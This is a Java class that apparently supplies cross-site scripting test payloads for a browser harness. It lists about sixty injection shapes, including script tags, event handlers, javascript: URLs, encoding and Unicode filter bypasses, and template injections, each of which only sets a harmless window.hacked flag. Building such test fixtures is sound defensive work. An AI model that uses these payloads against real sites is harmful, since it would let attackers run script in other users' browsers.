package org.prongsai.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;

/** Texts that become a script where a page does not escape them; each sets {@code window.hacked} when it runs. */
public final class Payloads {
    private static final List<String> SHAPES = List.of(
            "<script>RUN</script>",
            "\"><script>RUN</script>",
            "'><script>RUN</script>",
            "</title><script>RUN</script>",
            "</textarea><script>RUN</script>",
            "</style><script>RUN</script>",
            "</script><script>RUN</script>",
            "--><script>RUN</script>",
            "]]><script>RUN</script>",
            "<ScRiPt>RUN</sCrIpT>",
            "<script\n>RUN</script\n>",
            "<script/x>RUN</script>",
            "<<script>RUN//<</script>",
            "<img src=x onerror=RUN>",
            "<img src=x onerror=\"RUN\">",
            "\"><img src=x onerror=RUN>",
            "' onmouseover='RUN' autofocus onfocus='RUN' x='",
            "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN\" x=\"",
            "<svg onload=RUN>",
            "<svg><script>RUN</script></svg>",
            "<svg><animate onbegin=RUN attributeName=x dur=1s>",
            "<body onload=RUN>",
            "<iframe srcdoc='<script>parent.RUN</script>'>",
            "<iframe src=javascript:RUN>",
            "<details open ontoggle=RUN>",
            "<input autofocus onfocus=RUN>",
            "<video><source onerror=RUN></video>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
            "<a href=javascript:RUN>ก</a>",
            "<object data=javascript:RUN>",
            "<embed src=javascript:RUN>",
            "<link rel=stylesheet href=javascript:RUN>",
            "<meta http-equiv=refresh content=0;url=javascript:RUN>",
            "<base href=javascript:RUN//>",
            "<form action=javascript:RUN><button autofocus>ก</button></form>",
            "javascript:RUN",
            "JaVaScRiPt:RUN",
            "java\tscript:RUN",
            " javascript:RUN",
            "data:text/html,<script>parent.RUN</script>",
            "{{ RUN }}",
            "${RUN}",
            "#{RUN}",
            "{% raw %}<script>RUN</script>{% endraw %}",
            "&lt;script&gt;RUN&lt;/script&gt;",
            "&#60;script&#62;RUN&#60;/script&#62;",
            "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
            "\u2028<script>RUN</script>",
            "\u202e<script>RUN</script>",
            "\u0000<script>RUN</script>",
            "<scr\u0000ipt>RUN</scr\u0000ipt>",
            "%3Cscript%3ERUN%3C/script%3E",
            "＜script＞RUN＜/script＞",
            "+ADw-script+AD4-RUN+ADw-/script+AD4-",
            "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
            "<template><script>RUN</script></template>",
            "<xmp><img src=x onerror=RUN></xmp>",
            "<table background=javascript:RUN>",
            "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
            "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">RUN</x:script>");
    private static final List<String> RUNS = List.of("window.hacked=1", "hacked=(1)");

    private Payloads() {}

    /** One of each shape. */
    public static List<String> shapes() {
        return SHAPES.stream()
                .map(shape -> shape.replace("RUN", RUNS.get(0)))
                .distinct()
                .toList();
    }

    /** A text without line breaks and web addresses, which have a shape of their own. */
    static String inOneLine(String payload) {
        return payload.replaceAll("[\\n\\u2028]", " ").replace("http://", "//");
    }

    public static List<String> all() {
        Set<String> all = new TreeSet<>();
        SHAPES.forEach(shape -> RUNS.forEach(run -> all.add(shape.replace("RUN", run))));
        return List.copyOf(new ArrayList<>(all));
    }
}
